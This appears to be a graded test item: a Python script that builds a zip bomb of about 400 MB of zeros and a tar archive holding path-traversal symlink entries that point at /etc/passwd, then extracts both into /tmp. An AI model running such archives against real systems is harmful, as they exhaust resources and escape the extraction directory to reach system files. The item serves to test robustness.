# Unpacks archives that are a thousand times larger than they look, and links that lead outside.
# base: right
# points: 33
# status: graded|crashed|timed out
# %%
import io
import tarfile
import zipfile

with zipfile.ZipFile("bomb.zip", "w", zipfile.ZIP_DEFLATED) as bomb:
    for number in range(20):
        bomb.writestr(f"{number}", b"\0" * 20_000_000)
with tarfile.open("links.tar", "w") as tar:
    for name in ("../../../escaped", "/escaped", "link"):
        info = tarfile.TarInfo(name)
        info.type, info.linkname = tarfile.SYMTYPE, "/etc/passwd"
        tar.addfile(info)
try:
    tarfile.open("links.tar").extractall("/tmp")
    zipfile.ZipFile("bomb.zip").extractall("/tmp")
except OSError as error:
    print(error)
